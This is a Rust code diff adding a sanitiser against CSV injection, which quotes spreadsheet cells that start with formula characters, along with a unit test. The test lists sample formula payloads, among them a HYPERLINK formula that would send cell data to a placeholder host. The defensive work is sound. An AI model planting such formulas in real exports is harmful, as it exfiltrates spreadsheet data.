@@ -76,6 +76,19 @@ pub(crate) fn printable(text: &str) -> Cow<'_, str> {
     Cow::Owned(out)
 }
 
+/// `text` safe to open in a spreadsheet: a cell that starts with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice
+/// and Google Sheets, which a requester who chose it as their user agent or
+/// key could make fetch a URL with the sheet's data or run a command
+/// (CSV injection). Such a cell gets a leading `'`, which spreadsheets read
+/// as "this is text"; others are borrowed unchanged.
+pub(crate) fn spreadsheet_safe(text: &str) -> Cow<'_, str> {
+    match text.as_bytes().first() {
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => Cow::Owned(format!("'{text}")),
+        _ => Cow::Borrowed(text),
+    }
+}
+
 /// [`printable`] applied to every string column of `batches`, for the
 /// formats written to be read in a terminal.
 fn printable_batches(batches: &[RecordBatch]) -> Result<Vec<RecordBatch>, ArrowError> {
@@ -143,6 +156,16 @@ pub(crate) fn write_json<F: json::writer::JsonFormat>(
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_as_formulas_are_marked_as_text() {
+        for formula in ["=HYPERLINK(\"http://x/?\"&A1)", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
+            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
+        }
+        for text in ["Boto/2.49.0", "a=1", " =1", "'=1", ""] {
+            assert!(matches!(spreadsheet_safe(text), Cow::Borrowed(t) if t == text), "{text:?}");
+        }
+    }
 
     #[test]
     fn control_characters_are_written_out_and_the_rest_kept() {
